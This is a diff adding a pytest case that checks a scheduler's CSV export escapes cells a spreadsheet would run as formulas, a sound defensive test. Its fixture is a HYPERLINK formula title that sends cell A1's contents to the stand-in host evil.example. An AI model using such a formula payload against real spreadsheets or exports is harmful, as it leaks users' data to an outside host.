@@ -1,11 +1,14 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 import re
 import urllib.parse
 from pathlib import Path
+
+import pytest
 
 from scheduler import export
 from scheduler.campaign import Campaign
@@ -30,6 +33,18 @@ def test_csv_opens_in_excel_and_round_trips(heihe: Campaign, heihe_plan: Plan) -
     rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
     assert len(rows) == len(heihe_plan.posts)
     assert rows[0]["title"] == heihe_plan.posts[0].item.title
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_shown_as_text(heihe: Campaign, heihe_plan: Plan, start: str) -> None:
+    first = heihe_plan.posts[0]
+    title = f'{start}HYPERLINK("http://evil.example/?"&A1,"点击")'
+    hostile = dataclasses.replace(first, item=dataclasses.replace(first.item, title=title))
+    text = export.to_csv(heihe, Plan((hostile, *heihe_plan.posts[1:]), ()))
+    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
+    assert rows[0]["title"] == "'" + title
+    assert rows[1]["title"] == heihe_plan.posts[1].item.title  # ordinary titles untouched
+    assert all(not v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
 
 
 def test_ics_is_valid_icalendar(heihe: Campaign, heihe_plan: Plan) -> None:
